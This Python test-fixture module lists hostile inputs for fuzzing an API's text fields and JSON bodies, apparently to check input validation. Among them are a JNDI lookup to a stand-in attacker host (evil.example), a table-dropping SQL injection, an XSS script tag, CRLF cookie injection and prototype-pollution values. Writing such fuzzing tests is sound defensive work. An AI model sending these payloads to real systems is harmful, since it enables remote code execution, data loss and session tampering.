"""Hostile values for every text field of a body."""

import json
from typing import Any

NOT_TEXTS: list[Any] = [None, 1, 1.5, True, [], ["a"], {}, {"$ne": ""}, [["a"] * 3]]
"""Values of the wrong type for a text field. None is absent: it is allowed in an optional field."""

TEXTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "\u2028",
    "\ufeff",
    "\u202e",
    "x" * 1_000_000,
    " " * 1_000_000,
    "\U0001f469\u200d\U0001f4bb" * 1000,
    "%0d%0aSet-Cookie:%20x=1",
    "<script>alert(1)</script>",
    "__proto__",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE users; --",
]

BODIES = [
    b"",
    b"null",
    b"[]",
    b'"text"',
    b"1e999",
    b"{",
    b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b"[" * 100_000,
    b"\xff\xfe",
    b'{"email": NaN}',
    b'{"\\ud800": 1}',
    b'{"__proto__": {"email": "a@b.de"}}',
]
"""Whole bodies, as bytes."""


def with_lone_surrogate(body: dict[str, Any], field: str) -> bytes:
    """The body with a lone surrogate in one field. JSON can hold one, but UTF-8 cannot."""
    return json.dumps({**body, field: "\ud800abcdefgh"}).encode()
